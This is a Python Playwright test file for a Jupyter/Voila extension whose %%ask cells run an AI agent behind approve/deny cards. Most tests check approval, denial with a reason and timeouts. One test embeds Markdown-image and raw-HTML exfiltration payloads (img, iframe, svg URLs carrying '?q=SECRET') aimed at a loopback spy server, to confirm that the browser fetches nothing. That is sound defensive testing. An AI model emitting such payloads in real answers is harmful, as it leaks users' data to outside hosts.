"""The magics in a real browser: ``%%ask`` cells, their approval cards, and what follows.

JupyterLab (one server shared by these tests, ``lab`` in conftest.py) runs generated
notebooks with Run All: ``%load_ext a3s_notebook``, a ``scripted/demo`` session, a
``%%ask`` cell, then cells that read the result (``_``) and check ``notes.md``. The
``%%ask`` cell awaits its run, so the later cells queue behind it while the approval card
waits; a click on the card settles it, the run finishes in the cell that started it, and
the queued cells then print what only the kernel knows. Run All of the quickstart notebook
must finish without error output (nobody clicks: its approval times out after 1 s).

Voila renders a page only when every cell has run, so an awaiting ``%%ask`` cell would
hold the page (and its approval card) back until the approval times out. In Voila the
cell uses ``%%ask --background``; a label that only Python writes, from the run's end,
shows that the click reached the kernel.
"""

from __future__ import annotations

import re
import shlex
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat

ROOT = Path(__file__).resolve().parents[2]
QUICKSTART = ROOT / "notebooks" / "01-quickstart.ipynb"
KERNEL_IDLE = "Python 3 (ipykernel) | Idle"
PROMPT = "Look at my workspace and write notes"
REASON = "E2E denial: keep the workspace read-only"
WRITE = re.compile(r"^write$")  # not todo_write
LS = re.compile(r"^ls$")
NUMBERED = re.compile(r"^\[\d+\]:$")  # a code cell that has run (not "[*]:" nor "[ ]:")


def write_notebook(path: Path, cells: list[str]) -> Path:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(c) for c in cells]
    # without a kernelspec, JupyterLab asks which kernel to use
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nb.metadata["language_info"] = {"name": "python"}
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)
    return path


def magics_notebook(folder: Path, background: bool = False) -> tuple[Path, Path]:
    """A notebook that asks the scripted demo model to write ``notes.md``.

    Returns the notebook and the session's workspace. The approval waits 120 s: whatever
    the environment says (A3S_CONFIRMATION_TIMEOUT), there is time to click.
    """
    ws = folder / "ws"
    ws.mkdir(parents=True)
    (ws / "data.csv").write_text("city,temp_c\nOslo,4\nLima,19\n")
    setup = (
        "%load_ext a3s_notebook\n"
        f"%config A3sMagics.sessions_dir = {str(folder / 'sessions')!r}\n"
        f"%a3s_session new t --model scripted/demo --workspace {shlex.quote(str(ws))} "
        "--timeout 120"
    )
    ask = f"%%ask{' --background' if background else ''}\n{PROMPT}"
    if background:
        # Voila: the page shows once every cell ran; the run goes on in the kernel
        after = [
            "import ipywidgets as widgets\n"
            "from pathlib import Path\n"
            "handle = _\n"
            "echo = widgets.Label('PY: waiting')\n"
            "echo.add_class('a3s-e2e-echo')\n"
            "def report(task):\n"
            "    # only Python writes this label, when the run has ended\n"
            "    try:\n"
            "        answer = task.result().text\n"
            "    except BaseException as exc:\n"
            "        answer = f'failed: {exc!r}'\n"
            f"    exists = Path({str(ws / 'notes.md')!r}).exists()\n"
            "    echo.value = f'PY: run ended, notes.md exists={exists}, answer: {answer}'\n"
            "handle.task.add_done_callback(report)\n"
            "display(echo)"
        ]
    else:
        after = [
            "print('ANSWER:', _.text)",
            "from pathlib import Path\n"
            f"print('EXISTS' if Path({str(ws / 'notes.md')!r}).exists() else 'MISSING')",
        ]
    return write_notebook(folder / "magics.ipynb", [setup, ask, *after]), ws


def run_all(page: Any, url: str) -> None:
    """Open a notebook in JupyterLab, wait for its kernel, then Run > Run All Cells."""
    from playwright.sync_api import expect

    page.goto(url)
    expect(page.get_by_text(KERNEL_IDLE)).to_be_visible(timeout=90_000)
    page.locator(".lm-MenuBar-itemLabel", has_text=re.compile(r"^Run$")).click()
    page.locator(".lm-Menu-itemLabel", has_text=re.compile(r"^Run All Cells$")).click()


def code_cells(page: Any) -> Any:
    return page.locator(".jp-Notebook .jp-CodeCell")


def settled_text(locator: Any, quiet_ms: int = 600, timeout_s: float = 15) -> str:
    """The locator's textContent once it stops changing (widget updates come in batches).

    textContent, not inner_text: ``not_to_have_text`` compares it with the same text.
    """
    deadline = time.monotonic() + timeout_s
    text = locator.text_content()
    while time.monotonic() < deadline:
        locator.page.wait_for_timeout(quiet_ms)
        again = locator.text_content()
        if again == text:
            return text
        text = again
    raise AssertionError(f"text kept changing: {text!r}")


def used_tokens(page: Any) -> int:
    return int(re.sub(r"\D", "", page.locator(".a3s-context-nums strong").inner_text()))


def wait_for_pending_write(page: Any) -> tuple[Any, str, str, int]:
    """While the ``%%ask`` cell awaits: the card, and the context bar and tasks as they are."""
    from playwright.sync_api import expect

    cells = code_cells(page)
    card = page.locator(".a3s-card--pending")
    expect(card).to_be_visible(timeout=90_000)
    expect(card.locator(".a3s-card-tool")).to_have_text("write")
    expect(card.locator(".a3s-diff-path")).to_contain_text("new file notes.md")

    # the text streamed in while the cell still runs, and the later cells still wait
    expect(cells.nth(1).locator(".jp-InputArea-prompt")).to_have_text("[*]:")
    events = page.locator(".a3s-events")
    expect(events.locator(".a3s-assistant").first).to_contain_text(PROMPT)
    expect(events.locator(".a3s-assistant").last).to_contain_text(
        "Now I'll write my notes to notes.md. This needs your approval."
    )
    ls_row = events.locator(".a3s-tool--ok", has=page.locator(".a3s-tool-name", has_text=LS))
    expect(ls_row).to_have_count(1)
    expect(cells.nth(2).locator(".jp-OutputArea-output")).to_have_count(0)

    # the context bar and the task table have moved already; note where they are
    expect(page.locator(".a3s-task")).to_have_count(3)
    expect(page.locator(".a3s-task--in_progress .a3s-task-content")).to_have_text("Write notes.md")
    expect(page.locator(".a3s-context-nums strong")).not_to_have_text("0")
    context = settled_text(page.locator(".a3s-context"))
    tasks = settled_text(page.locator(".a3s-tasks"))
    return card, context, tasks, used_tokens(page)


def check_moved_on(page: Any, context: str, tasks: str, tokens: int) -> None:
    """After the decision: the run made more LLM calls and updated its plan."""
    from playwright.sync_api import expect

    expect(page.locator(".a3s-context")).not_to_have_text(context)
    expect(page.locator(".a3s-tasks")).not_to_have_text(tasks)
    after = used_tokens(page)
    assert after > tokens, f"the context bar did not grow: {tokens} -> {after}"
    expect(page.locator(".a3s-phase--done")).to_be_visible()
    expect(page.locator(".a3s-events .a3s-end")).to_contain_text("run finished")
    expect(page.locator(".a3s-errors:not([hidden])")).to_have_count(0)
    # every cell ran; none printed to stderr (a traceback, an %%ask usage error...)
    prompts = code_cells(page).locator(".jp-InputArea-prompt")
    for i in range(prompts.count()):
        expect(prompts.nth(i)).to_have_text(NUMBERED, timeout=30_000)
    expect(page.locator(".jp-OutputArea-output[data-mime-type*='stderr']")).to_have_count(0)


def test_ask_cell_approve_in_jupyterlab(lab: Any, bpage: Any, artifacts: Path) -> None:
    """Run All; the %%ask cell waits on its card; Approve; the later cells see the result."""
    from playwright.sync_api import expect

    notebook, ws = magics_notebook(lab.root / "approve")
    run_all(bpage, lab.url(notebook))
    card, context, tasks, tokens = wait_for_pending_write(bpage)
    assert not (ws / "notes.md").exists()
    # the cell and the page say why the kernel is busy and that later cells wait
    expect(bpage.locator(".a3s-pending-banner")).to_contain_text("cells you run now wait too")
    expect(bpage).to_have_title(re.compile(r"^⏸ Approval needed · "))

    card.locator("button[data-decision='approve']").click()
    expect(bpage.locator(".a3s-pending-banner")).to_have_count(0)
    expect(bpage).not_to_have_title(re.compile(r"^⏸"))

    outputs = code_cells(bpage).locator(".jp-OutputArea-output")
    # printed by the cells queued behind the %%ask cell: `_` is its result
    expect(outputs.filter(has_text="ANSWER:")).to_contain_text(
        "ANSWER: **Done.** I listed the workspace and wrote my notes to `notes.md`.",
        timeout=60_000,
    )
    expect(outputs.filter(has_text=re.compile(r"^(EXISTS|MISSING)"))).to_have_text("EXISTS")
    # the cell's own value: the answer as Markdown
    expect(code_cells(bpage).nth(1).locator(".jp-RenderedMarkdown")).to_contain_text("Done.")
    assert (ws / "notes.md").read_text().startswith("# Notes")

    events = bpage.locator(".a3s-events")
    write_row = events.locator(".a3s-tool--ok", has=bpage.locator(".a3s-tool-name", has_text=WRITE))
    expect(write_row).to_have_count(1)
    expect(events.locator(".a3s-notice--ok")).to_contain_text("write approved by user")
    expect(bpage.locator(".a3s-card--approved .a3s-card-title")).to_contain_text("Approved by user")
    expect(bpage.locator(".a3s-task--completed")).to_have_count(3)
    check_moved_on(bpage, context, tasks, tokens)
    bpage.screenshot(path=str(artifacts / "magics-jupyterlab-approved.png"), full_page=True)


def test_ask_cell_deny_with_reason_in_jupyterlab(lab: Any, bpage: Any, artifacts: Path) -> None:
    """Deny with a reason: no file, and the model's answer repeats the reason."""
    from playwright.sync_api import expect

    notebook, ws = magics_notebook(lab.root / "deny")
    run_all(bpage, lab.url(notebook))
    card, context, tasks, tokens = wait_for_pending_write(bpage)

    card.locator(".a3s-reason").fill(REASON)
    card.locator("button[data-decision='deny']").click()

    outputs = code_cells(bpage).locator(".jp-OutputArea-output")
    answer = outputs.filter(has_text="ANSWER:")
    expect(answer).to_contain_text("ANSWER: **I did not write `notes.md`.**", timeout=60_000)
    expect(answer).to_contain_text(f"rejected by user. Reason: {REASON}")
    expect(outputs.filter(has_text=re.compile(r"^(EXISTS|MISSING)"))).to_have_text("MISSING")
    assert not (ws / "notes.md").exists()

    # the model's next (last) message, as the live view shows it, carries the reason
    events = bpage.locator(".a3s-events")
    expect(events.locator(".a3s-assistant").last).to_contain_text("I did not write notes.md.")
    expect(events.locator(".a3s-assistant").last).to_contain_text(REASON)
    expect(bpage.locator(".a3s-card--denied .a3s-card-title")).to_contain_text("Denied by user at")
    expect(bpage.locator(".a3s-card--denied .a3s-card-title")).to_contain_text(REASON)
    expect(bpage.locator(".a3s-task--failed .a3s-task-content")).to_have_text("Write notes.md")
    check_moved_on(bpage, context, tasks, tokens)
    bpage.screenshot(path=str(artifacts / "magics-jupyterlab-denied.png"), full_page=True)


def test_run_all_quickstart_has_no_errors(lab: Any, bpage: Any) -> None:
    """Run All on notebooks/01-quickstart.ipynb: nobody clicks, the approval times out
    (A3S_CONFIRMATION_TIMEOUT=1 in the server's environment) and every cell still runs."""
    from playwright.sync_api import expect

    folder = lab.root / "quickstart"
    folder.mkdir()
    notebook = Path(shutil.copy(QUICKSTART, folder))  # it makes its workspace beside itself
    run_all(bpage, lab.url(notebook))

    cells = code_cells(bpage)
    expect(cells).to_have_count(
        len([c for c in nbformat.read(notebook, 4).cells if c.cell_type == "code"])
    )
    prompts = cells.locator(".jp-InputArea-prompt")
    for i in range(prompts.count()):
        expect(prompts.nth(i)).to_have_text(NUMBERED, timeout=90_000)
    expect(bpage.get_by_text(KERNEL_IDLE)).to_be_visible(timeout=30_000)
    expect(cells.last.locator(".jp-OutputArea-output")).not_to_have_count(0)

    # the %%ask cell's card timed out (nobody clicked) and the run went on
    expect(bpage.locator(".a3s-card--timeout")).to_have_count(1)
    expect(bpage.locator(".a3s-phase--done")).to_be_visible()
    errors = bpage.locator(
        ".jp-OutputArea-output[data-mime-type*='stderr'], "
        ".jp-OutputArea-output[data-mime-type*='error'], .a3s-errors:not([hidden])"
    )
    assert errors.count() == 0, f"error output: {errors.all_inner_texts()}"


def test_ask_background_approve_in_voila(
    tmp_path: Path, voila: Callable[[Path], str], bpage: Any, artifacts: Path
) -> None:
    """Voila runs the notebook; the click on Approve reaches the run in the kernel."""
    from playwright.sync_api import expect

    notebook, ws = magics_notebook(tmp_path / "voila", background=True)
    bpage.goto(voila(notebook))  # Voila runs all cells, then shows the page
    echo = bpage.locator(".a3s-e2e-echo")
    expect(echo).to_have_text("PY: waiting", timeout=90_000)
    card = bpage.locator(".a3s-card--pending")
    expect(card).to_be_visible(timeout=60_000)
    expect(card.locator(".a3s-card-tool")).to_have_text("write")
    assert not (ws / "notes.md").exists()

    card.locator("button[data-decision='approve']").click()

    # written by Python only, once the run ended: the click went through the kernel
    expect(echo).to_contain_text("PY: run ended, notes.md exists=True", timeout=60_000)
    expect(echo).to_contain_text("answer: **Done.**")
    assert (ws / "notes.md").exists()
    expect(bpage.locator(".a3s-card--approved .a3s-card-title")).to_contain_text("Approved by user")
    expect(bpage.locator(".a3s-task--completed")).to_have_count(3)
    bpage.screenshot(path=str(artifacts / "magics-voila-approved.png"), full_page=True)


class _Spy:
    """A loopback HTTP server that counts every request it receives."""

    def __init__(self) -> None:
        import http.server
        import threading

        spy = self
        self.paths: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                spy.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_model_markdown_makes_the_browser_fetch_nothing(lab: Any, bpage: Any) -> None:
    """An answer carrying image and raw-HTML payloads is shown, and nothing is fetched."""
    from playwright.sync_api import expect

    spy = _Spy()
    try:
        base = f"http://127.0.0.1:{spy.port}"
        payload = (
            f"![x]({base}/md-image?q=SECRET) and ![ref][r]\n\n"
            f'<img src="{base}/html-img?q=SECRET"> <IMG SRC={base}/upper>\n\n'
            f'<iframe src="{base}/iframe"></iframe> <video poster="{base}/poster"></video>\n\n'
            f"<svg><image href='{base}/svg'/></svg> <a href='{base}/link'>a link</a>\n\n"
            f"[r]: {base}/ref-image"
        )
        folder = lab.root / "exfil"
        ws = folder / "ws"
        ws.mkdir(parents=True)
        setup = (
            "%load_ext a3s_notebook\n"
            f"%config A3sMagics.sessions_dir = {str(folder / 'sessions')!r}\n"
            f"%a3s_session new leak --model scripted/echo --workspace {shlex.quote(str(ws))}"
        )
        notebook = write_notebook(
            folder / "exfil.ipynb", [setup, f"%%ask\n{payload}", "print('AFTER:', len(_.text))"]
        )
        run_all(bpage, lab.url(notebook))
        outputs = code_cells(bpage).locator(".jp-OutputArea-output")
        expect(outputs.filter(has_text="AFTER:")).to_be_visible(timeout=90_000)
        # the answer is there, as text: the payload shows, it does not load
        rendered = code_cells(bpage).nth(1).locator(".jp-RenderedMarkdown")
        expect(rendered).to_contain_text("Echo:")
        expect(rendered).to_contain_text("<img src=")
        expect(rendered.locator("img, iframe, video, svg")).to_have_count(0)
        expect(bpage.locator(".a3s-events .a3s-end")).to_contain_text("run finished")
        # a barrier, not a sleep: a fetch the page makes now arrives after any earlier one
        bpage.evaluate(
            "url => new Promise(r => { const i = new Image(); i.onload = i.onerror = r;"
            " i.src = url; })",
            f"{base}/control",
        )
        assert spy.paths == ["/control"], f"the browser fetched {spy.paths}"
    finally:
        spy.close()


def test_propose_cell_puts_the_code_in_a_new_cell_below(lab: Any, bpage: Any) -> None:
    """The agent proposes the next cell: it appears below the %%ask cell, not run."""
    from playwright.sync_api import expect

    folder = lab.root / "propose"
    ws = folder / "ws"
    ws.mkdir(parents=True)
    proposal = "sales.plot.bar(x='city', y='units')  # proposed"
    setup = (
        "%load_ext a3s_notebook\n"
        f"%config A3sMagics.sessions_dir = {str(folder / 'sessions')!r}\n"
        f"%a3s_session new p --model scripted/echo --workspace {shlex.quote(str(ws))}\n"
        "%a3s_session kernel-tools on\n"
        "from a3s_notebook import ScriptedClient, ScriptedTurn\n"
        "m = get_ipython().magics_manager.registry['A3sMagics']\n"
        "m.current._llm = ScriptedClient([ScriptedTurn(tool_calls=[{'name': 'propose_cell', "
        f"'args': {{'code': {proposal!r}}}}}]), ScriptedTurn(text='Try the cell below.')])"
    )
    notebook = write_notebook(folder / "propose.ipynb", [setup, "%%ask\nplot the sales"])
    run_all(bpage, lab.url(notebook))
    cells = code_cells(bpage)
    # a third cell appears, holding the proposal, and it has not run
    expect(cells).to_have_count(3, timeout=90_000)
    expect(cells.nth(2).locator(".jp-InputArea-editor")).to_contain_text("# proposed")
    expect(cells.nth(2).locator(".jp-InputArea-prompt")).not_to_have_text(NUMBERED)
    expect(cells.nth(1).locator(".jp-RenderedMarkdown")).to_contain_text("Try the cell below.")
